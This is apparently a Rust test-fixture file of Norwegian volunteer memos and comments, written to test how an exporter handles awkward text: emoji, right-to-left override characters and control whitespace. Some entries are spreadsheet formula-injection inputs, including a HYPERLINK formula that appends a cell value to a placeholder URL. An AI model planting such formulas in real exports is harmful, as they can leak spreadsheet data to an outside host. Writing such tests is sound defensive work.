//! Free texts that break careless readers: quotes, separators, line breaks, formulas, emoji,
//! combining marks, right-to-left script, control characters at the edge of what JSON carries.

pub(super) const MEMOS: &[&str] = &[
    "Ringte 12.03, ønsker samtale på kveldstid.",
    "Likeperson siden 2018.\r\nHar førerkort.\r\nSnakker engelsk og samisk.",
    "Foretrekker SMS; ikke ring før kl. 10; e-post leses sjelden",
    "Sa: \"Dette var til stor hjelp\", og takket for praten.",
    "=SUM(A1:A9)",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"klikk\")",
    "-1+2",
    "@treningsgruppen, se notat",
    "+47 regnes ikke som formel",
    "\tstarter med tabulator",
    "Etter operasjonen \u{2764}\u{fe0f} går det bra \u{1f44d}\u{1f3fd} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "Cafe\u{301} og re\u{301}sume\u{301} med løse aksenter",
    "שלום, زميل الدعم \u{202e}snudd\u{202c} tekst",
    "日本語のメモ、全角スペース\u{3000}あり",
    "linje én\nlinje to\n\nlinje fire",
    "a,b;c\td|e'f\"g\\h/i<j>k&l%20m",
    " ledende og etterfølgende mellomrom ",
    "usynlig\u{200b}mellomrom og BOM \u{feff} midt i",
    "NULL",
    "0047",
    "1E5",
    "Samtykke innhentet 01.02.2024. Pårørende: søster. Allergi: ingen kjent.",
];

pub(super) const COMMENTS: &[&str] = &[
    "Godkjent av fylkeslaget",
    "Kurs fullført; bevis sendt per post",
    "Venter på politiattest",
    "Fornyes \"så snart som mulig\"",
    "=IF(1;2;3)",
    "Sertifikat nr. 12, utgave 3\r\nSe vedlegg",
    "\u{1f393} bestått",
    "- utgått, men meldt på nytt kurs",
];
